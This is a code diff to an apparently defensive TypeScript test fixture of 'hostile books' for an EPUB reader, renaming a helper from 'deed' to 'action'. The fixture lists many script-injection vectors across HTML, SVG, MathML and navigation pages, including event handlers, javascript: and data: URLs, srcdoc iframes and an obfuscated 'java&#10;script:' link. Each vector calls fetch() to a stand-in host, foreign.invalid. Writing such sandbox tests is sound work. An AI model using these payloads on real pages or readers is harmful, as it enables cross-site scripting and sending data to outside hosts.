@@ -5,33 +5,33 @@ import { navigation, plain, sheet, type TrialBook, trialFiles } from './trialBoo
 const foreign = 'https://foreign.invalid';
 
 /** What a script would leave behind, wherever it ran: a mark on every window it reaches, and a call home. */
-const deed = (where: string): string =>
+const action = (where: string): string =>
   `for(const w of [self,parent,top]){try{w.trialScripts=(w.trialScripts||[]).concat('${where}')}catch(e){}};fetch('${foreign}/ran?${where}')`;
 
-const quoted = (where: string): string => deed(where).replaceAll('&', '&amp;').replaceAll('"', '&quot;');
+const quoted = (where: string): string => action(where).replaceAll('&', '&amp;').replaceAll('"', '&quot;');
 
-const svgScripts = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="100" height="100" onload="${quoted('svg-onload')}"><script>${deed('svg-script')}</script><script xlink:href="evil.js"/><a xlink:href="javascript:${quoted('svg-link')}"><text y="20" id="svg-link">press</text></a><animate attributeName="href" values="javascript:${quoted('svg-animate')}" onbegin="${quoted('svg-onbegin')}" dur="1s"/><set attributeName="onmouseover" to="${quoted('svg-set')}"/><foreignObject width="50" height="50"><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script>${quoted('svg-srcdoc')}&lt;/script>"></iframe><body xmlns="http://www.w3.org/1999/xhtml" onload="${quoted('foreign-object')}"/></foreignObject><use href="data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg' onload='${foreign}'/>#x"/></svg>`;
+const svgScripts = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="100" height="100" onload="${quoted('svg-onload')}"><script>${action('svg-script')}</script><script xlink:href="evil.js"/><a xlink:href="javascript:${quoted('svg-link')}"><text y="20" id="svg-link">press</text></a><animate attributeName="href" values="javascript:${quoted('svg-animate')}" onbegin="${quoted('svg-onbegin')}" dur="1s"/><set attributeName="onmouseover" to="${quoted('svg-set')}"/><foreignObject width="50" height="50"><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script>${quoted('svg-srcdoc')}&lt;/script>"></iframe><body xmlns="http://www.w3.org/1999/xhtml" onload="${quoted('foreign-object')}"/></foreignObject><use href="data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg' onload='${foreign}'/>#x"/></svg>`;
 
 const scripts = sheet(
   [
     '<h1 id="top">Scripts in every place</h1><p id="s1">This page can be read.</p>',
-    `<script>${deed('inline')}</script><script src="evil.js"></script><script type="module" src="evil.js"></script>`,
+    `<script>${action('inline')}</script><script src="evil.js"></script><script type="module" src="evil.js"></script>`,
     `<img src="missing.png" onerror="${quoted('img-onerror')}" alt=""/><p onclick="${quoted('p-onclick')}" onmouseover="${quoted('p-over')}" onfocus="${quoted('p-focus')}" tabindex="0" id="press">press</p>`,
     `<a id="link" href="javascript:${quoted('link')}">press</a><a id="spaced" href=" java&#10;script:${quoted('spaced-link')}">press</a><a id="data" href="data:text/html,&lt;script>${quoted('data-link')}&lt;/script>">press</a>`,
     `<iframe src="evil.html"></iframe><iframe srcdoc="&lt;script>${quoted('srcdoc')}&lt;/script>"></iframe><object data="evil.html"></object><embed src="evil.html"/>`,
     `<form action="javascript:${quoted('form')}"><button id="send" formaction="javascript:${quoted('formaction')}">send</button></form>`,
     `<video src="missing.mp4" onerror="${quoted('video-onerror')}"></video><details open="open" ontoggle="${quoted('toggle')}"><summary>s</summary></details>`,
     `<math xmlns="http://www.w3.org/1998/Math/MathML"><mtext href="javascript:${quoted('math')}">x</mtext></math>`,
-    `<style onload="${quoted('style-onload')}">p { color: inherit }</style><template><script>${deed('template')}</script></template><noscript><p>no script</p></noscript>`,
+    `<style onload="${quoted('style-onload')}">p { color: inherit }</style><template><script>${action('template')}</script></template><noscript><p>no script</p></noscript>`,
     svgScripts,
   ].join('\n'),
-  `<script>${deed('head')}</script><link rel="stylesheet" href="missing.css" onerror="${quoted('link-onerror')}"/><base href="${foreign}/"/>`,
+  `<script>${action('head')}</script><link rel="stylesheet" href="missing.css" onerror="${quoted('link-onerror')}"/><base href="${foreign}/"/>`,
 );
 
 const evil = (files: Map<string, BookFile>): Map<string, BookFile> =>
   files
-    .set('evil.js', textFile('text/javascript', deed('file')))
-    .set('evil.html', textFile('text/html', `<!DOCTYPE html><script>${deed('frame')}</script><script src="evil.js"></script>`));
+    .set('evil.js', textFile('text/javascript', action('file')))
+    .set('evil.html', textFile('text/html', `<!DOCTYPE html><script>${action('frame')}</script><script src="evil.js"></script>`));
 
 const remote = sheet(
   [
@@ -63,7 +63,7 @@ export const hostileBooks: readonly TrialBook[] = [
           ],
           {
             navigation: sheet(
-              `<script>${deed('nav')}</script><nav epub:type="toc"><ol><li><a href="page-1.xhtml" onclick="${quoted('nav-click')}">One<img src="x" alt="" onerror="${quoted('nav-img')}"/></a></li><li><a href="page-2.xhtml">Two</a></li></ol></nav>`,
+              `<script>${action('nav')}</script><nav epub:type="toc"><ol><li><a href="page-1.xhtml" onclick="${quoted('nav-click')}">One<img src="x" alt="" onerror="${quoted('nav-img')}"/></a></li><li><a href="page-2.xhtml">Two</a></li></ol></nav>`,
             ),
           },
         ),
